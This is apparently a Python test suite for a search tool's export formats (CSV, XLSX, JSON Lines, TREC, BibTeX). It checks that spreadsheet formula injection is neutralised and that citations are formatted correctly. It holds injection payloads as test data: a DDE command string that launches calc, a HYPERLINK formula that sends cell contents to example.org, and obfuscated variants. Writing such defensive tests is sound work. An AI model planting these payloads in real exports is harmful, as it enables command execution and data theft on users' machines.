"""What a run is written as, read back: text stays text, numbers stay numbers, nothing runs."""

import csv
import io
import json
from dataclasses import asdict, replace

import bibtexparser
import pytest
from bibtexparser.middlewares import LatexDecodingMiddleware, SeparateCoAuthors
from conftest import NoProgress, write_corpus
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from ingest.pipeline import ingest
from search import Document, Engine, ExportError, Row, open_snapshot
from search.bibtex import citation_key, entry, latex, page_ranges
from search.rows import COLUMNS
from search.tables import MAX_CELL_CHARACTERS, Sheets, csv_header, csv_text, jsonl_text, trec_text

ROW = Row(
    query_id="q1",
    query="reti",
    rank=1,
    score=0.75,
    group="tracciabilita",
    kind="quaderno",
    year=2024,
    title="Il filo",
    author="Anna Bianchi",
    page=3,
    sentence="Un filo.",
    passage="Un filo. Un altro.",
    passage_id="1a-2b",
    document_id="1a",
    path="tracciabilita/filo.pdf",
    link="http://localhost:8501/originali/1a#page=3",
    probability=0.5,
)
FORMULAS = [
    '=HYPERLINK("http://example.org/?"&A1,"apri")',
    "@cmd|'/c calc'!A0",
    "+1+1",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＠SUM(1)",
]
SIGNS = "=+-@＝＋－＠\t\r\n\0"
wild = st.text(st.characters(), max_size=60) | st.sampled_from(FORMULAS)


def read_csv(rows: list[Row]) -> list[list[str]]:
    file = io.StringIO(csv_header() + csv_text(rows), newline="")
    return list(csv.reader(file, strict=True))


def read_sheet(rows: list[Row]) -> list[tuple]:
    sheets, file = Sheets(), io.BytesIO()
    sheets.add(rows)
    sheets.save(file)
    return list(load_workbook(file).active.iter_rows())


def test_csv_has_a_header_and_a_record_for_each_row():
    header, record = read_csv([ROW])
    assert tuple(header) == COLUMNS
    assert record == [str(value) for value in asdict(ROW).values()]


def test_numbers_of_csv_stand_without_quotes():
    assert csv_text([ROW]).startswith(
        '"q1","reti",1,0.75,"tracciabilita","quaderno",2024,"Il filo"'
    )


def test_with_semicolons_numbers_have_a_decimal_comma_and_the_file_a_mark():
    text = csv_header(";") + csv_text([replace(ROW, title="a;b", author="=1")], ";")
    assert text.startswith('\ufeff"query_id";"query";"rank"')
    record = list(csv.reader(io.StringIO(text, newline=""), delimiter=";", strict=True))[1]
    assert record[COLUMNS.index("score")] == "0,75"
    assert (record[COLUMNS.index("title")], record[COLUMNS.index("author")]) == ("a;b", "'=1")
    with pytest.raises(ExportError, match=r"cannot be parted by '\|'"):
        csv_header("|")


def test_a_missing_year_is_an_empty_cell():
    assert read_csv([replace(ROW, year=None)])[1][COLUMNS.index("year")] == ""
    assert read_sheet([replace(ROW, year=None)])[1][COLUMNS.index("year")].value is None
    assert json.loads(jsonl_text([replace(ROW, year=None)]))["year"] is None


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_a_document_is_text_in_csv(formula):
    record = read_csv([replace(ROW, title=formula)])[1]
    assert record[COLUMNS.index("title")] == f"'{formula}"


@pytest.mark.parametrize("text", ["2024", "Un -1 in mezzo", "l'azienda = rete", "«=1»", "'=1", ""])
def test_any_other_text_is_left_alone_in_csv(text):
    assert read_csv([replace(ROW, title=text)])[1][COLUMNS.index("title")] == text


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_a_document_is_text_in_xlsx(formula):
    cell = read_sheet([replace(ROW, sentence=formula)])[1][COLUMNS.index("sentence")]
    assert (cell.value, cell.data_type) == (formula.replace("\0", ""), "s")
    assert cell.quotePrefix  # or it would become one when somebody edits the cell


def test_values_of_xlsx_are_numbers_or_text_and_nothing_else():
    texts = ["#N/A", "TRUE", "12", "2024-01-01", "50%", "http://example.org"]
    header, *records = read_sheet([replace(ROW, title=text) for text in texts])
    assert tuple(cell.value for cell in header) == COLUMNS
    for text, cells in zip(texts, records, strict=True):
        row = dict(zip(COLUMNS, cells, strict=True))
        assert (row["title"].value, row["title"].data_type) == (text, "s")
        numbers = [row[name] for name in ("rank", "score", "year", "page")]
        assert [(cell.value, cell.data_type) for cell in numbers] == [
            (1, "n"),
            (0.75, "n"),
            (2024, "n"),
            (3, "n"),
        ]


def test_a_cell_is_cut_where_excel_ends_and_loses_what_xml_cannot_hold():
    column = COLUMNS.index("passage")
    long, odd, pairs = read_sheet(
        [
            replace(ROW, passage="x" * 40_000),
            replace(ROW, passage="a\x01b\ufffec\ud800d\ne"),
            replace(ROW, passage="🧵" * 20_000),
        ]
    )[1:]
    assert long[column].value == "x" * MAX_CELL_CHARACTERS
    assert odd[column].value == "abcd\ne"
    assert pairs[column].value == "🧵" * 16_383  # two of Excel's characters each


def test_more_rows_than_a_sheet_has_go_on_the_next(monkeypatch):
    monkeypatch.setattr("search.tables.MAX_SHEET_ROWS", 3)
    sheets, file = Sheets(), io.BytesIO()
    sheets.add([replace(ROW, rank=rank) for rank in (1, 2, 3)])
    sheets.save(file)
    book = load_workbook(file)
    ranks = [[row[2] for row in sheet.values] for sheet in book.worksheets]
    assert ranks == [["rank", 1, 2], ["rank", 3]]


@given(wild, wild, wild)
def test_json_lines_give_back_every_text(title, sentence, author):
    rows = [replace(ROW, title=title, sentence=sentence, author=author), ROW]
    lines = jsonl_text(rows).encode().split(b"\n")
    assert [Row(**json.loads(line)) for line in lines[:-1]] == rows
    assert lines[-1] == b""


@given(wild, wild, wild)
@example("=1", "\ud800", '"\r\n"=1')
def test_no_cell_of_csv_begins_with_a_sign_and_none_is_lost(title, sentence, query_id):
    rows = [replace(ROW, title=title, sentence=sentence, query_id=query_id), ROW]
    data = (csv_header() + csv_text(rows)).encode()
    _, wild_record, tame_record = csv.reader(io.StringIO(data.decode(), newline=""), strict=True)
    assert not [value for value in wild_record if value[:1] and value[0] in SIGNS]
    assert tame_record == [str(value) for value in asdict(ROW).values()]
    read = wild_record[COLUMNS.index("title")]
    assert read.removeprefix("'") == title.removeprefix("'") or "\ufffd" in read


@settings(max_examples=30)
@given(st.lists(wild, min_size=1, max_size=5))
def test_no_cell_of_xlsx_is_a_formula_whatever_it_holds(texts):
    for cells in read_sheet([replace(ROW, title=text, passage=text) for text in texts])[1:]:
        assert {cell.data_type for cell in cells} <= {"s", "n", "inlineStr"}
        assert cells[2].value == 1


def test_trec_keeps_the_order_and_the_whole_score():
    rows = [ROW, replace(ROW, rank=2, score=1e-7, passage_id="=1-2")]
    assert trec_text(rows, "mia") == (
        "q1 Q0 1a-2b 1 0.750000000 mia\nq1 Q0 =1-2 2 0.000000100 mia\n"
    )


@pytest.fixture(scope="module")
def hostile_run(encoder, tmp_path_factory):
    """A run over a document whose title, author and sentence are formulas."""
    folder = tmp_path_factory.mktemp("hostile")
    text = (
        '---\ntitle: "=HYPERLINK(\\"http://example.org\\",\\"50% & altro\\")"\n'
        'author: "@cmd; Anna {Bianchi"\nyear: 2023\n---\n'
        "+39 06 123 è il numero del consorzio che raccoglie le reti.\n"
    )
    write_corpus(folder / "corpus", {"tracciabilita/2023-quaderno-x.md": text})
    ingest(folder / "corpus", folder / "index", encoder, NoProgress())
    return Engine(open_snapshot(folder / "index"), encoder).search_many({"-q": "=reti"})


def test_a_hostile_document_comes_through_all_doors_as_text(hostile_run, tmp_path):
    title = '=HYPERLINK("http://example.org","50% & altro")'
    hostile_run.to_csv(tmp_path / "run.csv")
    with (tmp_path / "run.csv").open(newline="", encoding="utf-8") as file:
        (record,) = csv.DictReader(file)
    assert record["title"] == f"'{title}"
    assert record["author"] == "'@cmd; Anna {Bianchi"
    assert record["sentence"].startswith("'+39 06")
    assert (record["query_id"], record["query"]) == ("'-q", "'=reti")

    hostile_run.to_xlsx(tmp_path / "run.xlsx")
    cells = list(load_workbook(tmp_path / "run.xlsx").active.iter_rows())[1]
    assert cells[COLUMNS.index("title")].value == title
    assert {cell.data_type for cell in cells} == {"s", "n"}

    hostile_run.to_jsonl(tmp_path / "run.jsonl")
    line = json.loads((tmp_path / "run.jsonl").read_text(encoding="utf-8"))
    assert (line["title"], line["query_id"]) == (title, "-q")

    hostile_run.to_bibtex(tmp_path / "run.bib")
    (read,) = parsed((tmp_path / "run.bib").read_text(encoding="utf-8"))
    assert read["title"] == title


DOCUMENT = Document(
    id="1a539e02f571",
    path="tracciabilita/filo.pdf",
    sha256="0" * 64,
    source_key="",
    media_type="application/pdf",
    title="Il filo",
    group="tracciabilita",
    kind="case-history",
    year=2023,
    language="it",
    page_count=9,
    author="Anna Bianchi; Rossi, Mario",
)


def parsed(text: str) -> list:
    """The entries that bibtexparser reads, LaTeX decoded; fails where anything is not an entry."""
    library = bibtexparser.parse_string(text, append_middleware=[LatexDecodingMiddleware()])
    assert library.failed_blocks == []
    assert len(library.blocks) == len(library.entries)
    return library.entries


def test_an_entry_says_what_is_known_of_the_document():
    assert entry(DOCUMENT, [5, 3, 6]) == (
        "@misc{bianchi2023-1a539e02f571,\n"
        "  title = {{Il filo}},\n"
        "  author = {Anna Bianchi and Rossi, Mario},\n"
        "  year = {2023},\n"
        "  pages = {3, 5--6},\n"
        "  url = {http://localhost:8501/originali/1a539e02f571#page=3},\n"
        "  language = {it},\n"
        "  keywords = {tracciabilita, case-history},\n"
        "}\n"
    )


def test_what_is_not_known_is_left_out():
    bare = replace(DOCUMENT, author="", year=None, group="", page_count=1, media_type="text/plain")
    (read,) = parsed(entry(bare, [1]))
    assert [field.key for field in read.fields] == ["title", "url", "language", "keywords"]
    assert read.key == "filo-1a539e02f571"


def test_each_document_is_cited_once_with_all_its_pages(hostile_run):
    many = hostile_run.results * 3
    file = io.StringIO()
    replace(hostile_run, ids=("a", "b", "c"), results=many).to_bibtex(file)
    assert len(parsed(file.getvalue())) == 1


@pytest.mark.parametrize(
    ("author", "key"),
    [
        ("Rossi, Mario", "rossi2023"),
        ("Maria d'Àvila-Ñandú", "nandu2023"),
        ("", "filo2023"),
        ("李", "filo2023"),
    ],
)
def test_a_key_is_made_of_author_or_title_and_year(author, key):
    assert citation_key(replace(DOCUMENT, author=author)) == f"{key}-1a539e02f571"


@pytest.mark.parametrize(
    ("author", "written"),
    [
        ("Anna Bianchi; Rossi, Mario", "Anna Bianchi and Rossi, Mario"),
        ("D'Amico, Anna Maria; J. Smith", "D'Amico, Anna Maria and J. Smith"),
        ("Cluster MinIT", "{Cluster MinIT}"),
        ("ENEA; Camera di Commercio", "{ENEA} and {Camera di Commercio}"),
        (
            "Università di Pisa, Dipartimento di Informatica",
            "{Università di Pisa, Dipartimento di Informatica}",
        ),
        ("Mario Rossi, Anna Bianchi", "{Mario Rossi, Anna Bianchi}"),
    ],
)
def test_the_name_of_an_organisation_is_not_turned_round(author, written):
    assert f"  author = {{{written}}},\n" in entry(replace(DOCUMENT, author=author), [1])


def test_authors_that_are_no_plain_names_are_kept_whole():
    document = replace(DOCUMENT, author="Ricerca and Sviluppo; Bosco, Riva, Neri, Soci")
    library = bibtexparser.parse_string(
        entry(document, [1]), append_middleware=[SeparateCoAuthors()]
    )
    names = ["{Ricerca and Sviluppo}", "{Bosco, Riva, Neri, Soci}"]
    assert library.entries[0]["author"] == names


@pytest.mark.parametrize(
    ("numbers", "text"), [([], ""), ([7], "7"), ([2, 1], "1--2"), ([1, 3, 4, 5, 9], "1, 3--5, 9")]
)
def test_pages_are_written_as_ranges(numbers, text):
    assert page_ranges(numbers) == text


def test_signs_of_latex_are_written_as_themselves():
    assert latex(r"50% & A_1 #2 $x$ ~ ^ {a} \b") == (
        r"50\% \& A\_1 \#2 \$x\$ \textasciitilde{} \textasciicircum{} "
        r"\textbraceleft{}a\textbraceright{} \textbackslash{}b"
    )


printed = st.text(st.characters(codec="utf-8", exclude_categories=["C", "Z"]), min_size=1)
signs = st.text('{}\\%$#&_~^"@,=a ', min_size=1)


# Without what pylatexenc reads differently from LaTeX: braces, and ^ as a letter of its own.
@given(st.text('\\%$#&_~"@,=a ', min_size=1))
def test_what_latex_would_act_on_is_read_back_as_it_was(title):
    (read,) = parsed(entry(replace(DOCUMENT, title=title), [1]))
    assert read["title"].split() == title.split()


@settings(max_examples=50)
@given(printed | signs, printed | signs, st.sets(st.integers(1, 99), min_size=1))
def test_an_entry_of_any_text_is_one_entry(title, author, pages):
    text = entry(replace(DOCUMENT, title=title, author=author), pages)
    (read,) = parsed(text)
    assert read.key.isascii()
    assert all(c.isalnum() or c == "-" for c in read.key)
    assert read["year"] == "2023"
    assert text.count("{") == text.count("}")
